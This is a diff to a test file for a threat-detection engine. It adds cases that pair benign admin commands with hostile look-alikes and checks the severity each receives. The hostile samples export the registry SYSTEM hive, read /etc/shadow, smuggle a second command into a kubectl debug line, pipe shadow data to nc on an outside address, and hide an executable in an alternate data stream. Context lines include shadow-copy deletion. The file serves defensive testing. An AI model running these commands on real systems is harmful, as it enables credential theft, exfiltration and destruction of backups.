@@ -30,6 +30,14 @@ describe('critical', () => {
     ['vssadmin delete shadows /for=T: /oldest', 'vssadmin delete shadows /all /quiet'],
     ['wbadmin delete systemstatebackup -keepVersions:5', 'wbadmin delete systemstatebackup -keepVersions:0'],
     ['wmic shadowcopy list brief', 'wmic shadowcopy delete'],
+    [
+      'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time" C:\\IT\\w32time.reg /y',
+      'reg export HKLM\\SYSTEM C:\\temp\\s.reg /y',
+    ],
+    [
+      "kubectl debug node/worker-3 -it --image=busybox -- chroot /host journalctl -u kubelet --since '1 hour ago'",
+      'kubectl debug node/worker-3 -it --image=busybox -- chroot /host journalctl -u kubelet; cat /host/etc/shadow',
+    ],
     ['hashcat -b -m 0', 'hashcat -m 18200 hashes.txt words.txt'],
     [
       "timeout 2 bash -c '</dev/tcp/redis01/6379' && echo up",
@@ -86,4 +94,28 @@ test.each([
 ])('a link relative to its own page climbs nowhere: %s', async (text, severity) => {
   const engine = await openThreatEngine();
   expect((await engine.methods.analyze({ text }, never)).severity).toBe(severity);
+});
+
+describe('told apart by what is shown', () => {
+  const levels = (text: string) =>
+    detectThreats(text, analyzer)
+      .findings.list()
+      .filter(({ source }) => source === 'sigma')
+      .map(({ level }) => level);
+
+  test('audits list the accounts without a password, attackers their hashes', () => {
+    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow`)).toEqual([]);
+    expect(levels(`awk -F: '{print $1":"$2}' /etc/shadow`)).toContain('high');
+    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow | nc 203.0.113.5 4444`)).toContain('high');
+    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow; cat /etc/shadow`)).toContain('high');
+  });
+
+  test('a port behind the name of a host is no stream of a file', () => {
+    const proc = (command: string) =>
+      JSON.stringify({ EventID: 1, Image: 'C:\\Windows\\cmd.exe', CommandLine: command });
+    expect(levels(proc('net mc.exe -> meet.example.net:443'))).not.toContain('medium');
+    expect(levels(proc('cmd /c type C:\\Temp\\a.exe > C:\\Users\\Public\\readme.txt:a.exe'))).toContain(
+      'medium',
+    );
+  });
 });
